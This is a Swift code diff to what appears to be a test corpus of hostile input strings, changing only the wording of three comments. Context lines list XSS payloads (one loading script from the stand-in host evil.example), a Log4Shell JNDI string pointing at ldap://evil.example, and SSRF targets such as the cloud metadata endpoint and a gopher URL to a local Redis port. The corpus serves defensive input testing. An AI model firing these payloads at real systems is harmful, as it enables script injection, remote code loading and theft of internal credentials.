@@ -3,7 +3,7 @@ extension HostileText {
     scripts + queries + traversals + headers + bytesOfTheWrongKind + invisible + numbers + templates + addresses
     + floods
 
-  /// Scripts in every place of a page where text can stand.
+  /// Scripts for all positions of text in a page.
   static let scripts: [HostileText] = [
     "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "</title><script>alert(1)</script>",
     "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)",
@@ -67,7 +67,7 @@ extension HostileText {
     [0x80], [0xEF, 0xBF, 0xBE], [0xEF, 0xBB, 0xBF, 0x61], [0x7F, 0x1B, 0x9B, 0x08], Array(0...31), Array(128...255),
   ].map { HostileText(bytes: $0) }
 
-  /// What turns text around, or is not seen.
+  /// Characters that change the text direction, or are invisible.
   static let invisible: [HostileText] = [
     "\u{202E}drowssap\u{202C}", "\u{2066}a\u{2067}b\u{2068}c\u{2069}", "a\u{200B}b\u{200C}c\u{200D}d\u{2060}e\u{FEFF}f",
     "\u{E0001}\u{E0041}\u{E007F}",
@@ -97,7 +97,7 @@ extension HostileText {
     "${jndi:ldap://evil.example/x}", "%l%t%%%q", "%", "%2", "\\n\\t\\0",
   ].map { HostileText($0) }
 
-  /// Of machines that the server should not ask, and sites to which it should not send anybody.
+  /// URLs of machines that the server must not contact, and sites to which it must not redirect.
   static let addresses: [HostileText] = [
     "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:22/", "http://[::1]/",
     "http://localhost:8080/metrics", "gopher://127.0.0.1:6379/_x",
